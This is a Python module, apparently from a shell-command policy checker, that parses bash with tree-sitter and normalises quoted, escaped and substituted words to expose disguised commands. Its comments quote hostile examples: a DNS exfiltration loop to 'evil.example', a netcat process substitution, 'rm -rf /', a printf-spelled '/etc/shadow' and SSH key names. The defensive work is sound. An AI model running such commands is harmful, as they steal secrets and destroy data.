"""Shell source → simple commands, with tree-sitter-bash.

Every simple command is found wherever it hides: pipelines, lists, subshells, `$(…)`,
backticks, process substitution, unquoted heredoc bodies, `case`, loops, functions and
variable defaults. Words are normalised to the value the shell would see (quotes and
backslashes removed, `$'…'` decoded, `$IFS` split, literal variables substituted); a word
that depends on run-time data is marked non-literal, with a best guess of its value.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import lru_cache

import tree_sitter
import tree_sitter_bash

from shturman.policy.limits import input_problem, tree_problem

IFS_MARK = "\x00"  # stands for an unquoted $IFS inside a word: the word splits there
_DEFAULT_OPS = frozenset({":-", "-", ":=", "="})
_MAX_LOOP_WORDS = 8  # a literal `for` list this short is unrolled (see `_literal_loop`)
_ANSI_ESCAPES = {
    "n": "\n",
    "t": "\t",
    "r": "\r",
    "a": "\a",
    "b": "\b",
    "e": "\x1b",
    "E": "\x1b",
    "f": "\f",
    "v": "\v",
    "\\": "\\",
    "'": "'",
    '"': '"',
    "?": "?",
}
_ANSI_RE = re.compile(
    r"\\(x[0-9a-fA-F]{1,2}|u[0-9a-fA-F]{1,4}|U[0-9a-fA-F]{1,8}|[0-7]{1,3}|c.|.)", re.S
)
_BACKTICK_RE = re.compile(r"`([^`]*)`")
_HERESTRING_AFTER_REDIRECT = re.compile(
    r"(\d*(?:&?>>?|>\||<)\s*(?:'[^']*'|\"[^\"]*\"|[^\s'\"<>|&;]+))\s*"
    r"(<<<\s*(?:'[^']*'|\"(?:\\.|[^\"\\])*\"|[^\s|&;<>]+))"
)


@dataclass(frozen=True, slots=True)
class Word:
    """One shell word after normalisation."""

    value: str  # what the shell would pass (best guess when not literal)
    raw: str  # the source text
    literal: bool = True  # no run-time expansion involved
    disguised: bool = False  # quotes/escapes/variables changed what the source shows


@dataclass(frozen=True, slots=True)
class Redirect:
    op: str  # ">", ">>", "<", "&>", "&>>", ">|", "<>", ">&", "<&", "<<", "<<<"
    target: Word | None
    fd: str = ""


@dataclass(slots=True)
class SimpleCommand:
    words: list[Word]
    assignments: list[tuple[str, Word]] = field(default_factory=list)
    redirects: list[Redirect] = field(default_factory=list)
    stdin_text: str | None = None  # heredoc body or here-string fed to it
    stdin_script_quoted: bool = False
    upstream: tuple[SimpleCommand, ...] = ()  # commands piping into this one
    downstream: tuple[SimpleCommand, ...] = ()
    function: str = ""  # name of the function whose body holds it
    cwd: str | None = None  # directory after a literal `cd` earlier in the script
    # loop variables bound to a substitution's output (`for l in $(cat f)`): data, not names
    carried: frozenset[str] = frozenset()

    @property
    def argv(self) -> list[str]:
        return [w.value for w in self.words]

    def text(self) -> str:
        parts = [f"{n}={v.value}" for n, v in self.assignments] + self.argv
        return " ".join(parts)


@dataclass(slots=True)
class Script:
    commands: list[SimpleCommand] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    recursive_functions: list[str] = field(default_factory=list)
    busy_loops: list[str] = field(default_factory=list)  # see `_busy_loop`
    backgrounded: bool = False
    limit: str = ""  # the input limit it broke (`input.too_deep`…): then nothing was walked


@lru_cache(maxsize=1)
def _parser() -> tree_sitter.Parser:
    return tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))


# tree-sitter-bash 0.25 can crash the process (SIGSEGV) on a `{` followed later by a 4-byte
# UTF-8 character (upstream tree-sitter-bash#337). Characters outside the Basic Multilingual
# Plane are never shell syntax, so the parser sees U+FFFD in their place: the structure it
# finds is the same, and such a character in a command name is not a known program anyway.
_ASTRAL = re.compile("[\U00010000-\U0010ffff]")


def parse(source: str) -> Script:
    """Parse a command line into its simple commands (never raises). Input that breaks a
    limit (see `limits`) is not walked: the Script carries the limit instead."""
    problem = input_problem(source)
    if problem is not None:
        return Script(limit=problem)
    source = _ASTRAL.sub("\ufffd", source)
    tree = _parser().parse(source.encode("utf-8", "surrogatepass"))
    root = tree.root_node
    if root.has_error and "<<<" in source:
        # tree-sitter-bash rejects a here-string after a file redirection (`tee f >/dev/null
        # <<< x`); bash does not care about their order, so retry with the here-string first
        fixed = _HERESTRING_AFTER_REDIRECT.sub(r"\2 \1", source)
        if fixed != source:
            # keep the Tree referenced while its nodes are walked (nodes point into it)
            retry_tree = _parser().parse(fixed.encode("utf-8", "surrogatepass"))
            if not retry_tree.root_node.has_error:
                tree = retry_tree
                root = tree.root_node
    problem = tree_problem(root)
    if problem is not None:
        return Script(limit=problem)
    walker = _Walker()
    if root.has_error:
        walker.script.errors.append(_first_error(root))
    walker.walk(root)
    return walker.script


# a loop condition that never changes (`while :`, `while true`, `until false`)
_ALWAYS = {
    "while": frozenset([":", "true", "/bin/true", "[ 1 ]", "((1))"]),
    "until": frozenset(["false", "/bin/false"]),
}
# a body running only these does nothing but spin
_SPINNERS = frozenset([":", "true", "false", "let", "test", "[", "echo", "printf"])


def _busy_loop(node: tree_sitter.Node) -> bool:
    """An endless loop that spins or floods: the condition is constant and the body runs
    nothing but no-op builtins (`while :; do :; done`), or it keeps starting background
    jobs (`while true; do x & done`, a process flood). A loop that runs real programs is
    judged by what they do (and may be bounded by a `timeout` around it)."""
    keyword = node.children[0].type if node.children else ""
    conditions = [
        c
        for i, c in enumerate(node.children)
        if node.field_name_for_child(i) == "condition" and c.type not in (";", "\n")
    ]
    if len(conditions) != 1 or _text(conditions[0]).strip() not in _ALWAYS.get(keyword, ()):
        return False
    body = node.child_by_field_name("body")
    if body is None:
        return False
    names: list[str] = []
    stack = [body]
    while stack:
        n = stack.pop()
        if n.type == "&":
            return True
        if n.type == "command":
            head = n.child_by_field_name("name")
            names.append(_text(head).strip() if head is not None else "")
        elif n.type in ("variable_assignment", "arithmetic_expansion"):
            names.append(":")
        stack.extend(n.children)
    return all(name in _SPINNERS for name in names)


def _first_error(node: tree_sitter.Node) -> str:
    stack = [node]
    while stack:
        n = stack.pop()
        if n.type == "ERROR" or n.is_missing:
            return f"syntax error near byte {n.start_byte}"
        stack.extend(reversed(n.children))
    return "syntax error"


def _text(node: tree_sitter.Node) -> str:
    return (node.text or b"").decode("utf-8", "replace")


def decode_ansi_c(body: str) -> str:
    def one(m: re.Match[str]) -> str:
        esc = m.group(1)
        head = esc[0]
        if head in "xuU" and len(esc) > 1:
            return chr(int(esc[1:], 16))
        if head.isdigit():
            return chr(int(esc, 8) & 0xFF)
        if head == "c":
            return chr(ord(esc[1]) & 0x1F)
        return _ANSI_ESCAPES.get(esc, "\\" + esc)

    return _ANSI_RE.sub(one, body)


def _unescape_unquoted(text: str) -> str:
    if "\\" not in text:
        return text  # the common case: nothing escaped
    out: list[str] = []
    i = 0
    while i < len(text):
        ch = text[i]
        if ch == "\\" and i + 1 < len(text):
            if text[i + 1] != "\n":
                out.append(text[i + 1])
            i += 2
            continue
        out.append(ch)
        i += 1
    return "".join(out)


def _unescape_dquoted(text: str) -> str:
    return re.sub(r'\\([$`"\\\n])', lambda m: "" if m.group(1) == "\n" else m.group(1), text)


_Part = tuple[str, bool, bool]  # value, literal, disguised


# the word-like nodes a statement's walk only looks into for substitutions
_WORD_NODES = frozenset(
    [
        "word",
        "string",
        "concatenation",
        "raw_string",
        "number",
        "simple_expansion",
        "expansion",
        "command_substitution",
        "process_substitution",
        "ansi_c_string",
        "arithmetic_expansion",
        "string_content",
    ]
)


class _Walker:
    def __init__(self) -> None:
        self.script = Script()
        self.env: dict[str, str] = {}
        self.unroll_budget = 32
        self.function = ""
        self.cwd: str | None = None
        self.carried: set[str] = set()  # see SimpleCommand.carried
        # commands in an output process substitution (`tee >(nc host 1)`): the command whose
        # word it is writes into them, as into a pipe; linked when that command is built
        self.feeds: list[SimpleCommand] = []

    # ---- statements -------------------------------------------------------------------
    def walk(self, node: tree_sitter.Node) -> list[SimpleCommand]:
        """Walk a node; return the simple commands it holds at its own level."""
        t = node.type
        if t == "command":
            return [self._command(node, [])]
        if t == "redirected_statement":
            return self._redirected(node)
        if t == "pipeline":
            return self._pipeline(node)
        if t == "variable_assignment":
            name, value = self._assignment(node)
            cmd = SimpleCommand(words=[], assignments=[(name, value)], function=self.function)
            self.script.commands.append(cmd)
            return [cmd]
        if t in ("declaration_command", "unset_command"):
            return [self._declaration(node)]
        if t == "function_definition":
            return self._function(node)
        if t in ("comment", "heredoc_body"):
            return []
        if t == "ERROR":
            self.script.errors.append(f"syntax error near byte {node.start_byte}")
        if t == "while_statement" and _busy_loop(node):
            self.script.busy_loops.append(_text(node)[:80])
        if t == "for_statement":
            unrolled = self._literal_loop(node)
            if unrolled is not None:
                return unrolled
        found: list[SimpleCommand] = []
        is_for = t == "for_statement"
        for i, child in enumerate(node.children):
            ctype = child.type
            if ctype == "&" and t in ("program", "list", "compound_statement"):
                self.script.backgrounded = True
            if is_for and node.field_name_for_child(i) == "value":
                self.word(child)
                self._carry(node, child)
                continue
            if ctype in _WORD_NODES:
                self._substitutions(child)
                continue
            found.extend(self.walk(child))
        return found

    def _literal_loop(self, node: tree_sitter.Node) -> list[SimpleCommand] | None:
        """`for d in / /tmp; do rm -rf "$d"; done`: over a short list of literal words the
        body is walked once per word, with the variable set to it, so each command is
        judged with what it will get (None: the values are not literal, or too many)."""
        var = node.child_by_field_name("variable")
        body = node.child_by_field_name("body")
        values = [c for i, c in enumerate(node.children) if node.field_name_for_child(i) == "value"]
        if (
            var is None
            or body is None
            or not values
            or len(values) > min(_MAX_LOOP_WORDS, self.unroll_budget)
        ):
            return None
        self.unroll_budget -= len(values)  # nested loops multiply: one budget per script
        words = [self.word(v) for v in values]
        if not all(w.literal for w in words):
            return None
        name = _text(var)
        saved = self.env.get(name)
        found: list[SimpleCommand] = []
        for w in words:
            self.env[name] = w.value
            found.extend(self.walk(body))
        if saved is None:
            self.env.pop(name, None)
        else:
            self.env[name] = saved
        return found

    def _carry(self, loop: tree_sitter.Node, value: tree_sitter.Node) -> None:
        """`for v in $(…)`: v holds a substitution's output from here on."""
        var = loop.child_by_field_name("variable")
        if var is None:
            return
        stack = [value]
        while stack:
            n = stack.pop()
            if n.type in ("command_substitution", "process_substitution") or (
                n.type in ("simple_expansion", "expansion")
                and _text(n).strip("${}") in self.carried
            ):
                self.carried.add(_text(var))
                return
            stack.extend(n.children)

    def _function(self, node: tree_sitter.Node) -> list[SimpleCommand]:
        name_node = node.child_by_field_name("name")
        name = _text(name_node) if name_node is not None else ""
        saved, self.function = self.function, name
        body = node.child_by_field_name("body")
        start = len(self.script.commands)
        if body is not None:
            self.walk(body)
        for cmd in self.script.commands[start:]:
            if cmd.words and cmd.words[0].value == name:
                self.script.recursive_functions.append(name)
                break
        self.function = saved
        return []

    def _pipeline(self, node: tree_sitter.Node) -> list[SimpleCommand]:
        stages: list[list[SimpleCommand]] = []
        for child in node.children:
            if child.type in ("|", "|&"):
                continue
            start = len(self.script.commands)
            top = self.walk(child)
            nested = self.script.commands[start:]
            stages.append(top or nested)
        for prev, nxt in itertools.pairwise(stages):
            for cmd in nxt:
                cmd.upstream = cmd.upstream + tuple(prev)
            for cmd in prev:
                cmd.downstream = cmd.downstream + tuple(nxt)
        return [c for stage in stages for c in stage]

    def _redirected(self, node: tree_sitter.Node) -> list[SimpleCommand]:
        body = node.child_by_field_name("body")
        redirects: list[Redirect] = []
        stdin: tuple[str, bool] | None = None
        rest: list[tree_sitter.Node] = []
        for i, child in enumerate(node.children):
            if child == body:
                continue
            if node.field_name_for_child(i) == "redirect" or child.type.endswith("redirect"):
                r, s = self._redirect(child, rest)
                redirects.extend(r)
                stdin = s or stdin
        start = len(self.script.commands)
        top = self.walk(body) if body is not None else []
        if top and body is not None:
            _adjacent_descriptor(body, node, top[-1], redirects)
        targets = top or self.script.commands[start:]
        if not targets:  # a bare redirection such as `> file` still writes the file
            bare = SimpleCommand(words=[Word(":", "")], function=self.function, cwd=self.cwd)
            self.script.commands.append(bare)
            targets = [bare]
        # `a && b > f`: tree-sitter hangs the redirect on the whole `list`, but bash binds it
        # to the last command only (a list is never redirected as a whole)
        for cmd in targets[-1:] if body is not None and body.type == "list" else targets:
            cmd.redirects.extend(redirects)
        if stdin is not None and targets:
            targets[-1].stdin_text, targets[-1].stdin_script_quoted = stdin
        feeder = targets[-1:]
        for extra in rest:
            nxt = self.walk(extra)
            for cmd in nxt if extra.type == "pipeline" else ():
                if not cmd.upstream:
                    cmd.upstream = tuple(feeder)
                    for f in feeder:
                        f.downstream = (*f.downstream, cmd)
                    break
            targets.extend(nxt)
        return targets

    def _redirect(
        self, node: tree_sitter.Node, rest: list[tree_sitter.Node]
    ) -> tuple[list[Redirect], tuple[str, bool] | None]:
        t = node.type
        if t == "heredoc_redirect":
            return self._heredoc(node, rest)
        fd = ""
        op = ""
        target: Word | None = None
        for i, child in enumerate(node.children):
            fname = node.field_name_for_child(i)
            if fname == "descriptor" or child.type == "file_descriptor":
                fd = _text(child)
            elif fname == "destination" or (op and target is None and child.is_named):
                if target is None:
                    target = self.word(child)
            elif not child.is_named:
                op = _text(child)
        if t == "herestring_redirect":
            value = target.value if target is not None else ""
            return [Redirect("<<<", target, fd)], (value, False)
        return [Redirect(op or ">", target, fd)], None

    def _heredoc(
        self, node: tree_sitter.Node, rest: list[tree_sitter.Node]
    ) -> tuple[list[Redirect], tuple[str, bool] | None]:
        quoted = False
        body_text = ""
        redirects: list[Redirect] = [Redirect("<<", None)]
        for child in node.children:
            if child.type == "heredoc_start":
                quoted = any(q in _text(child) for q in "'\"\\")
            elif child.type == "heredoc_body":
                body_text = _text(child)
                if not quoted:
                    self._substitutions(child)
                    for m in _BACKTICK_RE.finditer(body_text):
                        self._nested(m.group(1))
            elif child.type in ("file_redirect", "herestring_redirect"):
                r, _ = self._redirect(child, rest)
                redirects.extend(r)
            elif child.is_named and child.type not in ("heredoc_end",):
                rest.append(child)
        return redirects, (body_text, quoted)

    def _nested(self, source: str) -> None:
        inner = parse(source)
        self.script.commands.extend(inner.commands)
        self.script.errors.extend(inner.errors)

    def _command(self, node: tree_sitter.Node, redirects: list[Redirect]) -> SimpleCommand:
        words: list[Word] = []
        assignments: list[tuple[str, Word]] = []
        own_redirects = list(redirects)
        stdin: tuple[str, bool] | None = None
        rest: list[tree_sitter.Node] = []
        for i, child in enumerate(node.children):
            ctype = child.type
            if ctype == "variable_assignment":
                assignments.append(self._assignment(child))
            elif ctype.endswith("redirect"):
                r, s = self._redirect(child, rest)
                own_redirects.extend(r)
                stdin = s or stdin
            elif ctype == "command_name" or node.field_name_for_child(i) == "name":
                inner = child.children[0] if child.children else child
                words.append(self.word(inner))
            elif child.is_named and ctype != "comment":
                words.append(self.word(child))
        cmd = SimpleCommand(
            words=_split_words(words),
            assignments=assignments,
            redirects=own_redirects,
            function=self.function,
            cwd=self.cwd,
            carried=frozenset(self.carried),
        )
        if stdin is not None:
            cmd.stdin_text, cmd.stdin_script_quoted = stdin
        for fed in self.feeds:
            fed.upstream = (*fed.upstream, cmd)
            cmd.downstream = (*cmd.downstream, fed)
        self.feeds = []
        self.script.commands.append(cmd)
        self._track_cd(cmd)
        self.carried.update(_read_variables(cmd))
        for extra in rest:
            self.walk(extra)
        return cmd

    def _track_cd(self, cmd: SimpleCommand) -> None:
        if cmd.words and cmd.words[0].value in ("cd", "pushd"):
            args = [w for w in cmd.words[1:] if not w.value.startswith("-")]
            if not args:
                self.cwd = "~"
            elif args[0].literal and args[0].value.startswith(("/", "~")):
                self.cwd = args[0].value
            else:
                self.cwd = None

    def _assignment(self, node: tree_sitter.Node) -> tuple[str, Word]:
        name_node = node.child_by_field_name("name")
        value_node = node.child_by_field_name("value")
        name = _text(name_node) if name_node is not None else ""
        if value_node is None:
            value = Word("", "")
        elif value_node.type == "array":
            for c in value_node.children:
                self._substitutions(c)
            value = Word(_text(value_node), _text(value_node), literal=False)
        else:
            value = self.word(value_node)
        if value.literal and name:
            self.env[name] = value.value
        elif name:
            self.env.pop(name, None)
        return name, value

    def _declaration(self, node: tree_sitter.Node) -> SimpleCommand:
        words: list[Word] = []
        assignments: list[tuple[str, Word]] = []
        for child in node.children:
            if child.type == "variable_assignment":
                assignments.append(self._assignment(child))
            elif not child.is_named:
                words.append(Word(_text(child), _text(child)))
            else:
                words.append(self.word(child))
        cmd = SimpleCommand(words=words, assignments=assignments, function=self.function)
        self.script.commands.append(cmd)
        return cmd

    # ---- words ------------------------------------------------------------------------
    def _substitutions(self, node: tree_sitter.Node) -> None:
        """Walk the commands that run while a word is expanded."""
        if not node.child_count:  # a leaf (most words): nothing runs
            return
        if node.type in ("command_substitution", "process_substitution"):
            start = len(self.script.commands)
            saved_cwd = self.cwd
            saved_feeds, self.feeds = self.feeds, []
            for child in node.children:
                if child.type == "file_redirect" and node.type == "command_substitution":
                    # `$(< file)` is bash for `$(cat file)`: the file is read
                    redirects, _ = self._redirect(child, [])
                    self.script.commands.append(
                        SimpleCommand(
                            words=[Word("cat", "")],
                            redirects=redirects,
                            function=self.function,
                            cwd=self.cwd,
                        )
                    )
                    continue
                self.walk(child)
            self.cwd = saved_cwd
            self.feeds = saved_feeds
            if node.type == "process_substitution":
                for cmd in self.script.commands[start:]:
                    cmd.function = cmd.function or self.function
                if _text(node).startswith(">("):
                    self.feeds.extend(self.script.commands[start:])
            return
        for child in node.children:
            self._substitutions(child)

    def word(self, node: tree_sitter.Node) -> Word:
        self._substitutions(node)
        raw = _text(node)
        value, literal, disguised = self._part(node, raw)
        if literal and not disguised and value != raw and node.type != "number":
            disguised = True
        return Word(value, raw, literal, disguised)

    def _part(self, node: tree_sitter.Node, raw: str | None = None) -> _Part:
        t = node.type
        if raw is None:
            raw = _text(node)
        if t == "word":
            value = _unescape_unquoted(raw)
            return _expand_braces(value), True, value != raw
        if t == "number" or t == "variable_name":
            return raw, True, False
        if t == "raw_string":
            return raw[1:-1], True, True
        if t == "ansi_c_string":  # bash ends the string at a decoded NUL
            return decode_ansi_c(raw[2:-1]).split("\x00", 1)[0], True, True
        if t in ("string", "translated_string"):
            return self._join(node.children, quoted=True)
        if t == "concatenation":
            value, literal, disguised = self._join(node.children, quoted=False)
            if (
                literal
                and "{" in value
                and all(c.type == "word" for c in node.children if b"{" in (c.text or b""))
            ):
                value = _expand_braces(value)
            return value, literal, disguised
        if t in ("simple_expansion", "expansion"):
            return self._expansion(node)
        if t == "command_substitution":
            return self._substitution_value(node)
        return raw, False, True

    def _join(self, children: list[tree_sitter.Node], quoted: bool) -> _Part:
        values: list[str] = []
        literal, disguised = True, quoted
        for child in children:
            if child.type == '"' or child.type == "$":
                continue
            if child.type == "string_content":
                values.append(_unescape_dquoted(_text(child)))
                continue
            v, lit, dis = self._part(child)
            if quoted and v == IFS_MARK:
                v = " "
            values.append(v)
            literal, disguised = literal and lit, disguised or dis
        return "".join(values), literal, disguised

    def _expansion(self, node: tree_sitter.Node) -> _Part:
        names = [c for c in node.children if c.type in ("variable_name", "special_variable_name")]
        name = _text(names[0]) if names else ""
        ops = [c for c in node.children if _text(c) in _DEFAULT_OPS and not c.is_named]
        if len(node.children) > (2 if node.type == "simple_expansion" else 3) and not ops:
            return _text(node), False, True
        if name == "IFS":
            return IFS_MARK, True, True
        if name == "HOME":
            return "~", True, False
        if name in self.env:
            return self.env[name], True, True
        if ops:
            default = node.children[-2] if len(node.children) >= 2 else None
            if default is not None and default.type != _text(ops[0]):
                value, _, _ = self._part(default)
                return value, False, True
        return "", False, True

    def _substitution_value(self, node: tree_sitter.Node) -> _Part:
        """`$(echo rm)` → "rm" (a guess; never literal)."""
        inner = [c for c in node.children if c.is_named]
        if len(inner) == 1 and inner[0].type == "command":
            parts = [self._part(c) for c in inner[0].children if c.is_named]
            if parts and parts[0][0] in ("echo", "printf") and all(p[1] for p in parts[1:]):
                args = [p[0] for p in parts[1:]]
                if parts[0][0] == "printf" and args and not args[0].startswith("-"):
                    # `$(printf '/etc/%s' shadow)`, `$(printf '\163\150…')` spell a name
                    return _printf(decode_ansi_c(args[0]), args[1:]).rstrip("\n"), False, True
                text = " ".join(a for a in args if not a.startswith("-"))
                if parts[0][0] == "printf" or any(a in ("-e", "-ne", "-en") for a in args):
                    text = decode_ansi_c(text)
                return text, False, True
        return "", False, True


_BRACE = re.compile(r"^(.*?)\{([^{}\s]*,[^{}\s]*)\}(.*)$", re.S)
_MAX_BRACE_WORDS = 64


def _adjacent_descriptor(
    body: tree_sitter.Node, node: tree_sitter.Node, cmd: SimpleCommand, redirects: list[Redirect]
) -> None:
    """`sh 0<&2`: tree-sitter reads the `0` as an argument, but a number written right
    against a redirection operator is that redirection's file descriptor."""
    if body.type != "command" or not body.children or not redirects or redirects[0].fd:
        return
    last = body.children[-1]
    first = next((c for c in node.children if c.type.endswith("redirect")), None)
    if (
        last.type == "number"
        and first is not None
        and first.start_byte == last.end_byte
        and len(cmd.words) > 1
        and cmd.words[-1].raw == _text(last)
    ):
        cmd.words.pop()
        r = redirects[0]
        redirects[0] = Redirect(r.op, r.target, _text(last))


def _expand_braces(value: str) -> str:
    """Bash brace expansion (`id_{rsa,ed25519}` → two words, split by IFS_MARK); innermost
    groups first, at most 64 words (a best guess beyond that is still one of them)."""
    if "{" not in value or "," not in value:
        return value
    words = [value]
    for _ in range(8):
        out: list[str] = []
        changed = False
        for w in words:
            m = _BRACE.match(w)
            if m is None or len(out) >= _MAX_BRACE_WORDS:
                out.append(w)
                continue
            changed = True
            out.extend(m.group(1) + alt + m.group(3) for alt in m.group(2).split(","))
        words = out[:_MAX_BRACE_WORDS]
        if not changed:
            break
    return IFS_MARK.join(w for w in words if w) if len(words) > 1 else words[0]


def _split_words(words: list[Word]) -> list[Word]:
    out: list[Word] = []
    for w in words:
        if IFS_MARK not in w.value:
            out.append(w)
            continue
        out.extend(Word(p, w.raw, w.literal, True) for p in w.value.split(IFS_MARK) if p)
    return out


def iter_commands(script: Script) -> Iterator[SimpleCommand]:
    yield from script.commands


_READ_VALUE_OPTS = frozenset(["-p", "-d", "-n", "-N", "-t", "-u", "-i"])
_IDENTIFIER = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")


def _read_variables(cmd: SimpleCommand) -> list[str]:
    """`read [-r] [-a ARR] NAME…`: the variables it fills with input — data, not names
    (`… | while read h; do nslookup $h.evil.example; done` sends the data in the name)."""
    words = [w.value for w in cmd.words]
    if not words or words[0] != "read":
        return []
    found: list[str] = []
    i = 1
    while i < len(words):
        w = words[i]
        if w in _READ_VALUE_OPTS:
            i += 2
            continue
        if w == "-a" and i + 1 < len(words):
            found.append(words[i + 1])
            i += 2
            continue
        if not w.startswith("-") and _IDENTIFIER.fullmatch(w):
            found.append(w)
        i += 1
    return found


_PRINTF_SPEC = re.compile(r"%(%|[-+ #0]*\d*(?:\.\d+)?([sbdiuxXoc]))")


def _printf(fmt: str, args: list[str]) -> str:
    """What `printf FMT ARGS…` prints, for the conversions a path is spelt with (`%s`, `%b`,
    `%d`, `%c`…; the format is reused while arguments remain, as bash does). Bounded."""
    out: list[str] = []
    rest = list(args)
    for _ in range(64):
        used = False

        def conv(m: re.Match[str]) -> str:
            nonlocal used
            if m.group(1) == "%":
                return "%"
            used = True
            arg = rest.pop(0) if rest else ""
            return arg[:1] if m.group(2) == "c" else arg

        out.append(_PRINTF_SPEC.sub(conv, fmt))
        if not rest or not used:
            break
    return "".join(out)[:4096]
